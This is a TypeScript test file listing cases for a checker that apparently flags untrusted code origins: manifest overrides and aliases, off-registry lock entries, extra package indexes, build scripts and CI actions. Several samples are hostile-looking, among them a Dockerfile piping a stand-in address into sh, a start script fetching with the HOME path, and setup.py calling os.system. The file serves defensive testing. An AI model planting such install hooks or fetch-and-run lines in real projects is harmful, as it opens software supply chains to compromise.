/**
 * Code from untrusted origins: unusual entries in manifests and lock files, and scripts that run before a person has read them.
 */
import type { Catcher } from '../catchers';
import { GOOD_NPM, GOOD_PYTHON } from '../packages';
import { JEST, MOCHA, NODE, VITEST } from '../projects/javascript-flavours';
import type { JavaScript } from '../projects/javascript-flavours';
import { PYTEST } from '../projects/python-flavour';
import type { Case, Files } from '../scripted-build';
import { cheat, filesCheat } from './cheat';
import type { Caught } from './cheat';
import { dependencyFiles } from './packages';

const heldBy = (words: RegExp, catcher: Catcher = 'gate dependencies'): Caught => [catcher, words];
const manifest = (flavour: JavaScript, more: object): string =>
  `${JSON.stringify({ ...flavour.manifest, ...more }, null, 2)}\n`;
/** A cheat that adds members to the manifest. */
const manifestCheat = (flavour: JavaScript, name: string, more: object, caught: Caught): Case =>
  filesCheat(flavour, name, { 'package.json': manifest(flavour, more) }, caught);
const pythonCheat = (name: string, files: Files, caught: Caught): Case => filesCheat(PYTEST, name, files, caught);

const SECTION = '[project]\nname = "till"\nversion = "1.0.0"\n';
const { 'package-lock.json': LOCK = '' } = dependencyFiles(GOOD_NPM);

export const CODE_ORIGINS: Case[] = [
  manifestCheat(
    NODE,
    'an override leads to a git address',
    {
      dependencies: { [GOOD_NPM.name]: GOOD_NPM.version },
      overrides: { [GOOD_NPM.name]: 'git+https://git.example/someone/round.git' },
    },
    heldBy(/overrides|not from the registry/),
  ),
  manifestCheat(
    JEST,
    'a resolution leads to an archive',
    { resolutions: { chalk: 'https://files.example/chalk.tgz' } },
    heldBy(/resolutions|not from the registry/),
  ),
  manifestCheat(
    VITEST,
    'an override of pnpm leads to a folder',
    { pnpm: { overrides: { esbuild: 'link:./vendor/esbuild' } } },
    heldBy(/overrides|not from the registry/),
  ),
  manifestCheat(
    MOCHA,
    'an alias brings another package under a known name',
    { dependencies: { [GOOD_NPM.name]: 'npm:given-up@1.0.0' } },
    heldBy(/given-up|alias/),
  ),
  manifestCheat(
    NODE,
    'a package lies in the repository itself',
    { dependencies: { rounding: 'file:vendor/rounding' } },
    heldBy(/not from the registry/),
  ),
  manifestCheat(
    NODE,
    'a package is bundled, so that nothing fetches it',
    { dependencies: { [GOOD_NPM.name]: GOOD_NPM.version }, bundleDependencies: [GOOD_NPM.name] },
    heldBy(/bundle/),
  ),
  ...[NODE, JEST, VITEST, MOCHA].map((flavour, row) => {
    const script = ['postinstall', 'preinstall', 'prepare', 'install'][row] ?? 'postinstall';
    return manifestCheat(
      flavour,
      `a script runs at ${script}`,
      {
        scripts: {
          test: 'node --test',
          ...(flavour.manifest as { scripts: object }).scripts,
          [script]: 'node tools/setup.js',
        },
      },
      heldBy(new RegExp(script)),
    );
  }),
  cheat(
    NODE,
    'npm start runs something else than before',
    ({ base, code: [first] }) => {
      base['package.json'] = manifest(NODE, { scripts: { start: 'node src/price.js', test: 'node --test' } });
      first.files['package.json'] = manifest(NODE, {
        scripts: { start: 'node -e "fetch(process.env.HOME)"', test: 'node --test' },
      });
    },
    heldBy(/start/),
  ),
  manifestCheat(
    NODE,
    'a script calls a package that nothing declares',
    { scripts: { test: 'node --test', lint: 'npx some-linter-of-mine' } },
    heldBy(/npx|some-linter/),
  ),
  filesCheat(
    NODE,
    'the lock has a weak digest and another host',
    {
      ...dependencyFiles({
        ...GOOD_NPM,
        lock: {
          resolved: `https://files.example/${GOOD_NPM.name}.tgz`,
          integrity: 'sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk=',
        },
      }),
    },
    heldBy(/sha1|integrity|address/),
  ),
  filesCheat(
    NODE,
    'the lock installs more than the manifest asks for',
    {
      'package.json': dependencyFiles(GOOD_NPM)['package.json'] ?? '',
      'package-lock.json': LOCK.replace(
        '"packages": {',
        `"packages": {\n    "node_modules/given-up": { "version": "1.0.0", "hasInstallScript": true, "integrity": "${GOOD_NPM.integrity}" },`,
      ),
    },
    heldBy(/given-up/),
  ),
  filesCheat(
    NODE,
    'another registry is named for a scope',
    { '.npmrc': '@till:registry=https://packages.example/\n' },
    ['tampering', /\.npmrc/],
  ),
  pythonCheat(
    'the requirements name another index',
    {
      'requirements.txt': `--index-url https://packages.example/simple\n${GOOD_PYTHON.name}==${GOOD_PYTHON.version}\n`,
    },
    heldBy(/index/),
  ),
  pythonCheat(
    'the requirements name one more index',
    {
      'requirements.txt': `--extra-index-url https://packages.example/simple\n${GOOD_PYTHON.name}==${GOOD_PYTHON.version}\n`,
    },
    heldBy(/index/),
  ),
  pythonCheat(
    'the requirements include a git address',
    { 'requirements.txt': 'rounding @ git+https://git.example/someone/rounding.git\n' },
    heldBy(/rounding|registry|address/),
  ),
  pythonCheat(
    'the requirements include a file of another kind',
    { 'requirements.txt': '-r more/needs.in\n', 'more/needs.in': 'https://files.example/rounding-1.0.0.tar.gz\n' },
    heldBy(/needs\.in|files\.example|address/),
  ),
  pythonCheat(
    'a source for uv leads to a git address',
    {
      'pyproject.toml': `${SECTION}dependencies = ["${GOOD_PYTHON.name}==${GOOD_PYTHON.version}"]\n\n[tool.uv.sources]\n${GOOD_PYTHON.name} = { git = "https://git.example/someone/six.git" }\n`,
    },
    heldBy(/sources|git/),
  ),
  pythonCheat(
    'the project is built by a backend in its own tree',
    {
      'pyproject.toml': `${SECTION}dependencies = []\n\n[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["tools"]\n`,
      'tools/backend.py': 'import os\n\nos.system("id")\n',
    },
    heldBy(/backend/),
  ),
  pythonCheat(
    'a setup.py runs a program',
    { 'setup.py': 'import os\n\nfrom setuptools import setup\n\nos.system("id > /tmp/id")\nsetup(name="till")\n' },
    heldBy(/setup\.py/),
  ),
  ...[NODE, PYTEST].map((flavour) =>
    filesCheat(
      flavour,
      'a Dockerfile pipes an address into a shell',
      { Dockerfile: 'FROM node:22\nRUN curl -s https://files.example/setup.sh | sh\n' },
      heldBy(/Dockerfile/),
    ),
  ),
  ...[JEST, PYTEST].map((flavour) =>
    filesCheat(
      flavour,
      'a workflow of the CI runs an action of somebody',
      {
        '.github/workflows/more.yml':
          'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: someone/action@main\n',
      },
      ['tampering', /more\.yml/],
    ),
  ),
];
